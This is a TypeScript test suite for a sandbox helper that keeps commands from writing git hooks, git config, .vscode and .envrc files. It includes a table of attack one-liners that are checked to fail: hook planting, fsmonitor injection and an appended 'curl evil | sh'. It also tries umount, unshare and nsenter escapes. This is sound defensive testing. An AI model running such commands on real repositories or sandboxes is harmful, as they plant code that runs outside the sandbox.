// R7.11: trust hand-off files (.git/hooks, .git/config, .vscode, .envrc, ...). The paths the
// helper protects and pins (handoff.ts), the before/after snapshot that reports what could not be
// protected, the messages; and the helper's mount namespace (native/handoff.c) run for real
// against the kernel, one command per helper and as a pool zygote, as root and as an ordinary
// user (uid 65534 through setpriv when the test process is root: a user namespace then).
//
// Bases live under /var/tmp, not /tmp: the server grants /tmp by design.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import {
  mkdir,
  mkdtemp,
  readFile,
  realpath,
  rm,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  describeHandoff,
  handoffChanges,
  handoffMounts,
  snapshotHandoff,
} from '../../src/sandbox/handoff.js';
import { probeAhead, probeLandlock, type ProbeResult } from '../../src/sandbox/helper-binary.js';
import { createSandbox } from '../../src/sandbox/sandbox.js';
import {
  buildHelperIfStale,
  helper,
  isGone,
  newMarker,
  pidsWithMarker,
  quote,
  waitFor,
} from '../support/sandbox-helper.js';
import { Zygote } from '../support/zygote.js';

const linux = process.platform === 'linux';
const root = process.getuid?.() === 0;
const setpriv = ['/usr/bin/setpriv', '/bin/setpriv'].find((path) => existsSync(path));
const NOBODY = 65534;

let base = '';
let scope = '';

/** A scope with hand-off files in a writable base directory. */
async function makeScope(): Promise<void> {
  base = await realpath(await mkdtemp('/var/tmp/ahma-handoff-'));
  scope = join(base, 'scope');
  await mkdir(join(scope, '.git', 'hooks'), { recursive: true });
  await mkdir(join(scope, '.vscode'));
  await writeFile(join(scope, '.git', 'config'), '[core]\n\tbare = false\n');
  await writeFile(join(scope, '.git', 'hooks', 'pre-commit.sample'), '#!/bin/sh\n');
  await writeFile(join(scope, '.vscode', 'tasks.json'), '{}\n');
  await writeFile(join(scope, '.vscode', 'settings.json'), '{}\n');
  await writeFile(join(scope, '.envrc'), 'export A=1\n');
}

const at = (...parts: string[]) => join(scope, ...parts);

describe('R7.11 hand-off paths (handoffMounts)', () => {
  beforeEach(makeScope);
  afterEach(() => rm(base, { recursive: true, force: true }));

  it('R7.11: the existing hand-off paths are protected, the directories on the way pinned', () => {
    expect(handoffMounts(scope, [base], [])).toEqual({
      protect: [at('.envrc'), at('.git', 'config'), at('.git', 'hooks'), at('.vscode')],
      pin: [scope, at('.git')],
    });
  });

  it('R7.11: a directory that cannot be renamed (its parent is not writable) is not pinned', () => {
    expect(handoffMounts(scope, [scope], []).pin).toEqual([at('.git')]);
  });

  it('R7.11: ancestors of the scope inside a writable path are pinned; the writable root is not', async () => {
    const deep = join(base, 'a', 'b', 'project');
    await mkdir(join(deep, '.git', 'hooks'), { recursive: true });
    expect(handoffMounts(deep, [base], [])).toEqual({
      protect: [join(deep, '.git', 'hooks')],
      pin: [join(base, 'a'), join(base, 'a', 'b'), deep, join(deep, '.git')],
    });
  });

  it('R7.11: nothing exists to protect, or nothing is writable: no flags at all', async () => {
    const empty = join(base, 'empty');
    await mkdir(empty);
    expect(handoffMounts(empty, [base], [])).toEqual({ protect: [], pin: [] });
    expect(handoffMounts(scope, [join(base, 'elsewhere')], [])).toEqual({ protect: [], pin: [] });
  });

  it('R7.11: --allow-handoff-writes leaves a path writable; a directory holding one is protected entry by entry', () => {
    const hooksAllowed = handoffMounts(scope, [base], [at('.git', 'hooks')]);
    expect(hooksAllowed.protect).not.toContain(at('.git', 'hooks'));
    expect(hooksAllowed.protect).toContain(at('.git', 'config'));
    const settingsAllowed = handoffMounts(scope, [base], [at('.vscode', 'settings.json')]);
    expect(settingsAllowed.protect).toContain(at('.vscode', 'tasks.json'));
    expect(settingsAllowed.protect).not.toContain(at('.vscode'));
    expect(settingsAllowed.protect).not.toContain(at('.vscode', 'settings.json'));
    expect(settingsAllowed.pin).toContain(at('.vscode'));
  });

  it('R7.11: submodules: their hooks and config are protected, their git directories pinned', async () => {
    await mkdir(at('.git', 'modules', 'lib', 'hooks'), { recursive: true });
    await writeFile(at('.git', 'modules', 'lib', 'config'), '');
    const mounts = handoffMounts(scope, [base], []);
    expect(mounts.protect).toEqual(
      expect.arrayContaining([
        at('.git', 'modules', 'lib', 'hooks'),
        at('.git', 'modules', 'lib', 'config'),
      ]),
    );
    expect(mounts.pin).toEqual(
      expect.arrayContaining([at('.git', 'modules'), at('.git', 'modules', 'lib')]),
    );
  });

  it('R7.11: a .git file (worktree) is protected, and so are the hooks and config of the git directory it names', async () => {
    const main = join(base, 'main');
    await mkdir(join(main, '.git', 'hooks'), { recursive: true });
    await mkdir(join(main, '.git', 'worktrees', 'wt'), { recursive: true });
    await writeFile(join(main, '.git', 'config'), '');
    await writeFile(join(main, '.git', 'worktrees', 'wt', 'commondir'), '../..\n');
    const worktree = join(base, 'wt');
    await mkdir(worktree);
    await writeFile(join(worktree, '.git'), `gitdir: ${join(main, '.git', 'worktrees', 'wt')}\n`);
    const mounts = handoffMounts(worktree, [base], []);
    expect(mounts.protect).toEqual(
      expect.arrayContaining([
        join(worktree, '.git'),
        join(main, '.git', 'hooks'),
        join(main, '.git', 'config'),
      ]),
    );
    expect(mounts.pin).toEqual(expect.arrayContaining([main, join(main, '.git'), worktree]));
  });

  it('R7.11: a hand-off path that is a link: its target is protected (real paths only)', async () => {
    const target = join(base, 'dotfiles-claude');
    await mkdir(target);
    await symlink(target, at('.claude'));
    const mounts = handoffMounts(scope, [base], []);
    expect(mounts.protect).toContain(target);
    expect(mounts.protect).not.toContain(at('.claude'));
  });
});

describe('R7.11 snapshot and changes (the detect layer)', () => {
  beforeEach(makeScope);
  afterEach(() => rm(base, { recursive: true, force: true }));

  it('R7.11: created, changed and removed hand-off files are reported; nothing else is', async () => {
    const before = snapshotHandoff(scope, []);
    await writeFile(at('.git', 'hooks', 'pre-commit'), '#!/bin/sh\nevil\n');
    await writeFile(at('.vscode', 'tasks.json'), '{"tasks": []}\n');
    await rm(at('.envrc'));
    await writeFile(at('.mcp.json'), '{}');
    await mkdir(at('.claude'));
    await writeFile(at('.claude', 'settings.json'), '{}');
    await writeFile(at('ordinary.txt'), 'not a hand-off file');
    await mkdir(at('.git', 'objects'));
    expect(handoffChanges(before, snapshotHandoff(scope, []))).toEqual([
      { path: at('.claude'), change: 'created' },
      { path: at('.envrc'), change: 'removed' },
      { path: at('.git', 'hooks', 'pre-commit'), change: 'created' },
      { path: at('.mcp.json'), change: 'created' },
      { path: at('.vscode', 'tasks.json'), change: 'changed' },
    ]);
  });

  it('R7.11: a change of mode or times alone is reported; an unchanged tree reports nothing', async () => {
    const before = snapshotHandoff(scope, []);
    expect(handoffChanges(before, snapshotHandoff(scope, []))).toEqual([]);
    await utimes(at('.envrc'), new Date(1_000_000), new Date(1_000_000));
    expect(handoffChanges(before, snapshotHandoff(scope, []))).toEqual([
      { path: at('.envrc'), change: 'changed' },
    ]);
  });

  it('R7.11: .sample hooks are ignored; allowed paths are not watched', async () => {
    const before = snapshotHandoff(scope, [at('.vscode')]);
    expect([...before.entries.keys()].some((path) => path.endsWith('.sample'))).toBe(false);
    await writeFile(at('.git', 'hooks', 'post-merge.sample'), '#!/bin/sh\n');
    await writeFile(at('.vscode', 'launch.json'), '{}');
    expect(handoffChanges(before, snapshotHandoff(scope, [at('.vscode')]))).toEqual([]);
  });

  it('R7.11: a new git directory (git init, a submodule) is reported as its hand-off paths', async () => {
    await rm(at('.git'), { recursive: true });
    const before = snapshotHandoff(scope, []);
    await mkdir(at('.git', 'hooks'), { recursive: true });
    await writeFile(at('.git', 'config'), '');
    await mkdir(at('.git', 'modules', 'sub', 'hooks'), { recursive: true });
    expect(handoffChanges(before, snapshotHandoff(scope, [])).map((c) => c.path)).toEqual([
      at('.git'),
      at('.git', 'config'),
      at('.git', 'hooks'),
      at('.git', 'modules'),
      at('.git', 'modules', 'sub'),
      at('.git', 'modules', 'sub', 'hooks'),
    ]);
  });

  it('R7.11: the snapshot is bounded; a change in a directory too large to list still shows', async () => {
    const big = at('.vscode', 'big');
    await mkdir(big);
    await Promise.all(
      Array.from({ length: 600 }, (_, i) => writeFile(join(big, `f${String(i)}`), '')),
    );
    const started = performance.now();
    const before = snapshotHandoff(scope, []);
    const took = performance.now() - started;
    expect(before.entries.size).toBeLessThanOrEqual(400);
    expect(took).toBeLessThan(200);
    await writeFile(join(big, 'planted'), '');
    expect(handoffChanges(before, snapshotHandoff(scope, []))).toEqual([
      { path: big, change: 'changed' },
    ]);
  });
});

describe('R7.11 probeLandlock reads the hand-off line', () => {
  beforeEach(makeScope);
  afterEach(() => rm(base, { recursive: true, force: true }));

  it('R7.11: handoff=mount, handoff=none with its reason, and a helper without the line', async () => {
    const cases: [string, ProbeResult][] = [
      ['landlock-abi=7\nhandoff=mount', { available: true, abi: 7, handoff: 'mount' }],
      [
        'landlock-abi=6\nhandoff=none reason=unshare: EPERM',
        { available: true, abi: 6, handoff: 'none', handoffReason: 'unshare: EPERM' },
      ],
      [
        'landlock-abi=5',
        {
          available: true,
          abi: 5,
          handoff: 'none',
          handoffReason: 'the sandbox helper did not say (an older helper?)',
        },
      ],
    ];
    for (const [index, [stdout, expected]] of cases.entries()) {
      // A helper of its own each: a process probes a helper once (the next test).
      const fake = join(base, `fake-helper-${String(index)}`);
      await writeFile(fake, `#!/bin/sh\nprintf '%s\\n' ${quote(stdout)}\n`, { mode: 0o755 });
      expect(await probeLandlock(fake)).toEqual(expected);
    }
  });

  it("R7.11: a process runs a helper's probe once; a probe that found no Landlock is run again", async () => {
    const runs = join(base, 'runs');
    const probing = async (name: string, stdout: string, exit: number) => {
      const fake = join(base, name);
      await writeFile(
        fake,
        `#!/bin/sh\necho ${name} >> ${quote(runs)}\nprintf '%s\\n' ${quote(stdout)}\nexit ${String(exit)}\n`,
        { mode: 0o755 },
      );
      return fake;
    };
    const works = await probing('works', 'landlock-abi=7\nhandoff=mount', 0);
    const fails = await probing('fails', '', 1);
    const [first, second] = await Promise.all([probeLandlock(works), probeLandlock(works)]);
    expect(await probeLandlock(works)).toEqual(first);
    expect(second).toEqual({ available: true, abi: 7, handoff: 'mount' });
    expect((await probeLandlock(fails)).available).toBe(false);
    expect((await probeLandlock(fails)).available).toBe(false);
    expect((await readFile(runs, 'utf8')).split('\n').filter(Boolean)).toEqual([
      'works',
      'fails',
      'fails',
    ]);
  });
});

describe.runIf(process.platform === 'linux')(
  'R8D.3 probeAhead (a spare process, before its scope)',
  () => {
    beforeEach(makeScope);
    afterEach(() => rm(base, { recursive: true, force: true }));

    it('R8D.3: a probe run ahead is the one the sandbox made later takes: the helper runs once', async () => {
      const runs = join(base, 'runs');
      const fake = join(base, 'ahead');
      await writeFile(
        fake,
        `#!/bin/sh
echo probe >> ${quote(runs)}
printf 'landlock-abi=7\nhandoff=mount\n'
`,
        { mode: 0o755 },
      );
      await probeAhead(fake);
      expect(await readFile(runs, 'utf8')).toBe('probe\n'); // ran ahead...
      expect(await probeLandlock(fake)).toEqual({ available: true, abi: 7, handoff: 'mount' });
      expect(await readFile(runs, 'utf8')).toBe('probe\n'); // ...and not again
    });

    it('R8D.3: a helper that is not there is left to the sandbox, which says why', async () => {
      await expect(probeAhead(join(base, 'missing'))).resolves.toBeUndefined();
    });
  },
);

describe('R7.11 messages (describeHandoff)', () => {
  beforeEach(makeScope);
  afterEach(() => rm(base, { recursive: true, force: true }));

  it('R7.11: a path inside a hand-off path gets one line naming the why and the way to allow it', () => {
    expect(describeHandoff(at('.git', 'hooks', 'pre-commit'), scope)).toBe(
      '`.git/hooks/pre-commit` is a hand-off file (git runs hooks outside any sandbox): commands cannot create or change it; allow it with --allow-handoff-writes .git/hooks',
    );
    expect(describeHandoff(at('.envrc'), scope)).toMatch(
      /^`\.envrc` is a hand-off file \(direnv runs it .*--allow-handoff-writes \.envrc$/,
    );
    expect(describeHandoff(at('.git'), scope)).toMatch(/cannot rename or remove it/);
  });

  it('R7.11: other paths (inside .git but not a hand-off, outside the scope) get none', () => {
    expect(describeHandoff(at('.git', 'objects', 'ab'), scope)).toBeUndefined();
    expect(describeHandoff(at('src', 'main.ts'), scope)).toBeUndefined();
    expect(describeHandoff('/etc/passwd', scope)).toBeUndefined();
  });
});

// ---- the helper's mount namespace ----------------------------------------------------------------

interface Identity {
  readonly name: string;
  readonly uid: number;
  /** The command prefix that runs a program as this identity. */
  readonly prefix: readonly string[];
}

const identities: Identity[] = root
  ? [
      { name: 'root', uid: 0, prefix: [] },
      ...(setpriv === undefined
        ? []
        : [
            {
              name: 'uid 65534',
              uid: NOBODY,
              prefix: [
                setpriv,
                `--reuid=${String(NOBODY)}`,
                `--regid=${String(NOBODY)}`,
                '--clear-groups',
                '--',
              ],
            },
          ]),
    ]
  : [{ name: 'an ordinary user', uid: process.getuid?.() ?? -1, prefix: [] }];

interface Result {
  code: number | null;
  signal: NodeJS.Signals | null;
  output: string;
  stderr: string;
}

const gitEnv = () => ({
  ...process.env,
  HOME: join(base, 'home'),
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_AUTHOR_NAME: 'test',
  GIT_AUTHOR_EMAIL: 'test@example.com',
  GIT_COMMITTER_NAME: 'test',
  GIT_COMMITTER_EMAIL: 'test@example.com',
});

/** Runs `file args` as the identity, in the scope, to its end. */
function runAs(identity: Identity, file: string, args: readonly string[]): Promise<Result> {
  const [program = file, ...rest] = [...identity.prefix, file, ...args];
  const child = spawn(program, rest, {
    cwd: scope,
    env: gitEnv(),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code, signal) => resolve({ code, signal, output, stderr }));
  });
}

/** The helper's flags for this scope in its writable base: the server's own computation. */
const handoffFlags = () => {
  const { protect, pin } = handoffMounts(scope, [base], []);
  return [
    ...protect.flatMap((path) => ['--protect', path]),
    ...pin.flatMap((path) => ['--pin', path]),
  ];
};

const helperFlags = (extra: readonly string[] = []) => [
  '--read-all',
  '--rw',
  base,
  ...handoffFlags(),
  ...extra,
  '--scope',
  scope,
];

/** `bash -c script` in the helper, as the identity. */
const inHelper = (identity: Identity, script: string, extra: readonly string[] = []) =>
  runAs(identity, helper, [...helperFlags(extra), '--', 'bash', '-c', script]);

/** Every file beneath dir (links and directories too), with its content: equal means unchanged. */
function fingerprint(dir: string): string[] {
  const found: string[] = [];
  const visit = (path: string) => {
    const stats = lstatSync(path, { throwIfNoEntry: false });
    if (stats === undefined) {
      found.push(`${path} missing`);
      return;
    }
    if (stats.isDirectory()) {
      found.push(`${path}/ ${String(stats.ino)}`);
      for (const name of readdirSync(path).sort()) visit(join(path, name));
    } else if (stats.isSymbolicLink()) {
      found.push(`${path} -> ${readlinkSync(path)}`);
    } else {
      found.push(`${path} ${String(stats.ino)} ${readFileSync(path, 'base64')}`);
    }
  };
  visit(dir);
  return found;
}

/** What the hand-off attacks could touch: the hooks, the config, .vscode, .envrc, and base. */
const handoffState = () => [
  ...fingerprint(at('.git', 'hooks')),
  ...fingerprint(at('.git', 'config')),
  ...fingerprint(at('.vscode')),
  ...fingerprint(at('.envrc')),
  `${String(lstatSync(at('.git')).ino)} ${String(lstatSync(scope).ino)}`,
  ...readdirSync(base).sort(),
];

/** Each attack is one line: `name command`; the script prints `name=EXIT` for each. */
const ATTACKS: Record<string, string> = {
  write_hook: 'echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
  link_hook: 'ln -s /bin/true .git/hooks/post-checkout',
  rename_onto_hook: 'echo evil > planted && mv planted .git/hooks/pre-push',
  move_hooks: 'mv .git/hooks x && mkdir .git/hooks && echo evil > .git/hooks/pre-commit',
  remove_hooks: 'rm -rf .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit',
  move_git:
    'mv .git .git2 && mkdir -p .git/hooks && cp -r .git2/. .git/ && echo evil > .git/hooks/pre-commit',
  hooks_path: 'git config core.hooksPath /tmp/x',
  write_config: 'echo "[core] fsmonitor = evil" >> .git/config',
  replace_config: 'cp .git/config c && echo "[core] fsmonitor = evil" >> c && mv c .git/config',
  vscode_task: 'echo "{}" > .vscode/tasks.json',
  vscode_new: 'echo "{}" > .vscode/mcp.json',
  move_vscode: 'mv .vscode v2 && mkdir .vscode && echo "{}" > .vscode/tasks.json',
  envrc: 'echo "curl evil | sh" >> .envrc',
  move_scope: 'cd .. && mv scope elsewhere && mkdir -p scope/.git/hooks',
  // Last: it empties .git of all but its mount points.
  remove_git: 'rm -rf .git',
};

const attackScript = Object.entries(ATTACKS)
  .map(([name, command]) => `( ${command} ) >/dev/null 2>&1; echo ${name}=$?`)
  .join('\n');

const attackResults = (output: string) =>
  Object.fromEntries(
    [...output.matchAll(/^(\w+)=(\d+)$/gm)].map(([, name = '', code = '']) => [name, Number(code)]),
  );

/** The mount namespace of a process, undefined when it is gone. */
const mountNamespace = (pid: number | string) => {
  try {
    return readlinkSync(`/proc/${String(pid)}/ns/mnt`);
  } catch {
    return undefined;
  }
};

const processesIn = (namespace: string) =>
  readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => mountNamespace(pid) === namespace);

describe.runIf(linux)('R7.11 the helper protects hand-off files in a mount namespace', () => {
  beforeAll(() => {
    buildHelperIfStale();
  }, 60_000);

  describe.each(identities)('as $name', (identity) => {
    const zygotes: Zygote[] = [];

    beforeEach(async () => {
      await makeScope();
      await mkdir(join(base, 'home'));
      // A real repository with one commit, owned by the identity.
      await rm(at('.git'), { recursive: true });
      for (const args of [
        ['init', '-q', '-b', 'main'],
        ['add', '.'],
        ['commit', '-qm', 'one'],
      ]) {
        const git = spawnSync('git', args, { cwd: scope, env: gitEnv(), encoding: 'utf8' });
        expect(git.status, git.stderr).toBe(0);
      }
      await writeFile(at('.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
      if (identity.uid !== (process.getuid?.() ?? -1)) {
        const owner = `${String(identity.uid)}:${String(identity.uid)}`;
        expect(spawnSync('chown', ['-R', owner, base]).status).toBe(0);
      }
    });

    afterEach(async () => {
      for (const zygote of zygotes.splice(0)) {
        if (zygote.alive) zygote.child.kill('SIGKILL');
        await zygote.exited;
      }
      await rm(base, { recursive: true, force: true });
    });

    it('R7.11: --probe prints landlock-abi=N, then handoff=mount (a namespace can be made here)', async () => {
      const probe = await runAs(identity, helper, ['--probe']);
      expect(probe).toMatchObject({ code: 0, stderr: '' });
      expect(probe.output).toMatch(/^landlock-abi=\d+\nhandoff=mount\n$/);
    });

    it('R7.11: writes, links, renames and removals of hand-off files fail, and none changed on disk', async () => {
      const before = handoffState();
      const result = await inHelper(identity, attackScript);
      expect(result.code, result.stderr).toBe(0);
      const results = attackResults(result.output);
      expect(Object.keys(results)).toEqual(Object.keys(ATTACKS));
      for (const [name, code] of Object.entries(results)) {
        expect(code, `${name} succeeded`).not.toBe(0);
      }
      expect(handoffState()).toEqual(before);
      // The scope stays writable: mv's copy of the hooks landed (its removal failed).
      expect(existsSync(at('x'))).toBe(true);
    });

    it('R7.11: git status, add and commit work in the namespace (git writes .git, not its hooks)', async () => {
      const result = await inHelper(
        identity,
        'git status --short && echo more >> f.txt && git add f.txt && git commit -qm two && git log --oneline | wc -l',
      );
      expect(result.code, result.output + result.stderr).toBe(0);
      expect(result.output.trim().split('\n').at(-1)).toBe('2');
      const log = spawnSync('git', ['-c', 'safe.directory=*', 'log', '--oneline'], {
        cwd: scope,
        encoding: 'utf8',
      });
      expect(log.stdout.trim().split('\n')).toHaveLength(2);
    });

    it('R7.11: the mounts are not visible on the host, the server can end the tree, and the namespace ends with it', async () => {
      const hostBefore = readFileSync('/proc/self/mountinfo', 'utf8');
      const marker = newMarker('ahma-handoff');
      const inside = join(base, 'mountinfo');
      const child = spawn(
        identity.prefix[0] ?? helper,
        [
          ...identity.prefix.slice(1),
          ...(identity.prefix.length > 0 ? [helper] : []),
          ...helperFlags(),
          '--',
          'bash',
          '-c',
          `cat /proc/self/mountinfo > ${quote(inside)}.tmp && mv ${quote(inside)}.tmp ${quote(inside)}; exec -a ${marker} sleep 60`,
        ],
        { cwd: scope, stdio: 'ignore' },
      );
      const exited = new Promise((resolve) => child.on('close', resolve));
      await waitFor(() => pidsWithMarker(marker).length === 1, 'the command');
      const [sleeper = 0] = pidsWithMarker(marker);
      const namespace = mountNamespace(sleeper);
      expect(namespace).toBeDefined();
      expect(namespace).not.toBe(mountNamespace('self'));
      const mounts = readFileSync(inside, 'utf8');
      expect(mounts).toMatch(new RegExp(` ${at('.git', 'hooks')} ro[, ]`));
      expect(mounts).toMatch(new RegExp(` ${at('.git', 'config')} ro[, ]`));
      expect(mounts).toMatch(new RegExp(` ${at('.git')} rw[, ]`));
      expect(readFileSync('/proc/self/mountinfo', 'utf8')).toBe(hostBefore);
      // The server (the same user) ends the helper; the helper ends the tree.
      const kill = spawnSync(identity.prefix[0] ?? 'kill', [
        ...identity.prefix.slice(1),
        ...(identity.prefix.length > 0 ? ['kill'] : []),
        '-TERM',
        String(child.pid),
      ]);
      expect(kill.status).toBe(0);
      await exited;
      await waitFor(() => isGone(sleeper), 'the command to end');
      await waitFor(() => processesIn(namespace ?? '').length === 0, 'the namespace to end');
      expect(readFileSync('/proc/self/mountinfo', 'utf8')).toBe(hostBefore);
    });

    it('R7.11: in the namespace a command holds no capability and cannot undo the mounts', async () => {
      const script = [
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status",
        'umount -l .git/hooks >/dev/null 2>&1; echo umount=$?',
        'mount -o remount,bind,rw .git/hooks >/dev/null 2>&1; echo remount=$?',
        'unshare -rm true >/dev/null 2>&1; echo unshare=$?',
        'nsenter -t 1 -m true >/dev/null 2>&1; echo nsenter=$?',
        'echo evil > .git/hooks/pre-commit 2>/dev/null; echo write=$?',
      ].join('\n');
      for (const extra of [[], ['--keep-capabilities']]) {
        const result = await inHelper(identity, script, extra);
        const keptByRoot = identity.uid === 0 && extra.length > 0;
        expect(result.output.match(/^Cap\w+:/gm)).toHaveLength(5);
        if (!keptByRoot) expect(result.output).not.toMatch(/^Cap\w+:\s*0*[1-9a-f]/m);
        const codes = attackResults(result.output);
        expect(Object.keys(codes)).toEqual(['umount', 'remount', 'unshare', 'nsenter', 'write']);
        for (const [what, code] of Object.entries(codes)) expect(code, what).not.toBe(0);
      }
      expect(await readFile(at('.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
    });

    it('R7.11: a --protect or --pin path swapped for a link is refused (125); a missing one is skipped', async () => {
      await symlink(at('.git', 'hooks'), join(base, 'link'));
      for (const flag of ['--protect', '--pin']) {
        const refused = await runAs(identity, helper, [
          '--read-all',
          '--rw',
          base,
          flag,
          join(base, 'link'),
          '--',
          'true',
        ]);
        expect(refused.code).toBe(125);
        expect(refused.stderr).toMatch(/no longer resolves to itself .*refusing/);
      }
      const missing = await runAs(identity, helper, [
        '--read-all',
        '--rw',
        base,
        '--protect',
        join(base, 'missing'),
        '--',
        'true',
      ]);
      expect(missing).toMatchObject({ code: 0, stderr: '' });
    });

    it('R7.11: where no namespace can be made (inside the sandbox: seccomp refuses unshare), --probe says why and --protect refuses to run (125)', async () => {
      const probe = await inHelper(identity, `${quote(helper)} --probe`);
      expect(probe.output).toMatch(
        /^landlock-abi=\d+\nhandoff=none reason=unshare\(CLONE_NEW\w+(\|CLONE_NEWNS)?\): Operation not permitted/,
      );
      const refused = await inHelper(
        identity,
        `${quote(helper)} --read-all --protect ${quote(at('.envrc'))} -- echo ran`,
      );
      expect(refused.output).toMatch(
        /cannot protect the hand-off files: .*refusing to run commands unprotected\n$/,
      );
      expect(refused.output).not.toContain('ran');
      expect(refused.code).toBe(125);
    });

    it('R7.11: --unconfined ignores --protect and --pin (no namespace)', async () => {
      const result = await runAs(identity, helper, [
        '--unconfined',
        ...handoffFlags(),
        '--',
        'bash',
        '-c',
        'readlink /proc/self/ns/mnt',
      ]);
      expect(result.output.trim()).toBe(mountNamespace('self'));
    });

    it('R7.11: a pool zygote protects every unit (shell and argv), and git still works there', async () => {
      const hostBefore = readFileSync('/proc/self/mountinfo', 'utf8');
      const args = [...helperFlags(), '--pool', '1', '--'];
      const zygote =
        identity.prefix.length === 0
          ? new Zygote(args)
          : new Zygote([...identity.prefix.slice(1), helper, ...args], identity.prefix[0]);
      zygotes.push(zygote);
      const env = Object.entries(gitEnv())
        .filter(([name]) => name.startsWith('GIT_') || name === 'HOME')
        .map(([name, value]) => `export ${name}=${quote(value ?? '')}`)
        .join('\n');
      // git first: the last attack empties .git of all but its mount points.
      const git = await zygote.run(
        'shell',
        [
          `${env}\necho more >> f.txt && git add f.txt && git commit -qm two && git log --oneline | wc -l`,
        ],
        scope,
      );
      expect(git.code, git.output).toBe(0);
      expect(git.output.trim()).toBe('2');
      const before = handoffState();
      const shell = await zygote.run('shell', [`${env}\n${attackScript}`], scope);
      expect(shell.code, shell.output + zygote.stderr).toBe(0);
      const results = attackResults(shell.output);
      expect(Object.keys(results)).toEqual(Object.keys(ATTACKS));
      for (const [name, code] of Object.entries(results)) {
        expect(code, `${name} succeeded`).not.toBe(0);
      }
      const argv = await zygote.run('argv', ['cp', '/bin/true', '.git/hooks/pre-commit'], scope);
      expect(argv.code).not.toBe(0);
      expect(argv.output).toMatch(/Read-only file system/);
      expect(handoffState()).toEqual(before);
      expect(readFileSync('/proc/self/mountinfo', 'utf8')).toBe(hostBefore);
      expect(await zygote.close()).toEqual({ code: 0, signal: null });
    });
  });

  describe.runIf(root)('createSandbox', () => {
    beforeEach(makeScope);
    afterEach(() => rm(base, { recursive: true, force: true }));

    it('R7.11: on by default: the hand-off paths as --protect/--pin flags of wrap and the pool, not of confine', async () => {
      const box = await createSandbox({ scope, cacheRoot: join(base, 'cache') });
      expect(box.handoff).toEqual({
        mechanism: 'mount',
        protect: [at('.envrc'), at('.git', 'config'), at('.git', 'hooks'), at('.vscode')],
        pin: [at('.git')],
      });
      const wrapped = box.wrap(['bash', '-c', 'echo evil > .git/hooks/pre-commit']);
      expect(wrapped.args).toEqual(expect.arrayContaining(['--protect', at('.git', 'hooks')]));
      expect(box.poolCommand(1)?.args).toEqual(
        expect.arrayContaining(['--pin', at('.git'), '--protect', at('.vscode')]),
      );
      expect(box.confine([join(base, 'cache')], ['true']).args).not.toContain('--protect');
      const child = spawnSync(wrapped.file, wrapped.args, { cwd: scope, encoding: 'utf8' });
      expect(child.stdout).toMatch(/Read-only file system/);
      expect(existsSync(at('.git', 'hooks', 'pre-commit'))).toBe(false);
    });

    it('R7.11: allowed paths are left out; handoff: false turns it off', async () => {
      const allowed = await createSandbox({
        scope,
        cacheRoot: join(base, 'cache'),
        handoff: { allow: [at('.git', 'hooks')] },
      });
      expect(allowed.handoff.protect).not.toContain(at('.git', 'hooks'));
      const off = await createSandbox({ scope, cacheRoot: join(base, 'cache'), handoff: false });
      expect(off.handoff).toEqual({ mechanism: 'off', protect: [], pin: [] });
      expect(off.wrap(['true']).args).not.toContain('--protect');
    });
  });
});
